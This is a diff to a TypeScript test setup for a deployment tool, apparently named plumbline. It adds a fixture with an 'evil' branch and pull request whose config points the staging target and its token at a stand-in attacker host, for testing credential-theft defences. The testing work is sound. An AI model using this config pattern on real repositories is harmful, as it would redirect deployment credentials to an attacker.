@@ -48,6 +48,31 @@ export default async function setup(project: TestProject): Promise<() => Promise
     'plumbline.yaml': plumblineYaml(namespace),
     ...manifests(namespace),
   });
+  // A branch (and a same-repository pull request from it) whose plumbline.yaml redefines the
+  // target `staging` at the attacker and adds an app that tracks the branch.
+  const evil = git.commit(
+    {
+      'plumbline.yaml': `targets:
+  - name: staging
+    server: https://${WORKERS_TEST.attackerHost}
+    credentials:
+      token:
+        secret: staging-token
+apps:
+  - name: web
+    path: apps/web
+    target: staging
+    namespace: kube-system
+  - name: steal
+    path: apps/web
+    target: staging
+    namespace: ${namespace}
+    branch: evil
+`,
+    },
+    'evil',
+    'evil',
+  );
   github = await startGitHubServer({
     repos: { [WORKERS_TEST.repo]: git },
     token: WORKERS_TEST.githubToken,
@@ -66,6 +91,20 @@ export default async function setup(project: TestProject): Promise<() => Promise
     before: ZERO_SHA,
     after: head,
   });
+  const pushEvil = await pushDelivery({
+    secret: WORKERS_TEST.webhookSecret,
+    repo: WORKERS_TEST.repo,
+    branch: 'evil',
+    before: ZERO_SHA,
+    after: evil,
+  });
+  github.openPullRequest(WORKERS_TEST.repo, { number: 9, headRef: 'evil' });
+  const pullRequestEvil = await pullRequestDelivery(
+    WORKERS_TEST.webhookSecret,
+    WORKERS_TEST.repo,
+    'opened',
+    { number: 9, headSha: evil, headRef: 'evil' },
+  );
   const pullRequestOpened = await pullRequestDelivery(
     WORKERS_TEST.webhookSecret,
     WORKERS_TEST.repo,
@@ -87,7 +126,10 @@ export default async function setup(project: TestProject): Promise<() => Promise
       push: { headers: push.headers, body: push.body },
       pushOtherRepo: { headers: pushOtherRepo.headers, body: pushOtherRepo.body },
       pullRequestOpened: { headers: pullRequestOpened.headers, body: pullRequestOpened.body },
+      pushEvil: { headers: pushEvil.headers, body: pushEvil.body },
+      pullRequestEvil: { headers: pullRequestEvil.headers, body: pullRequestEvil.body },
     },
+    attackerHost: WORKERS_TEST.attackerHost,
   };
   project.provide('workers', fixture);
   // The edge (Access + Tunnel) in the config reaches the API server through this.
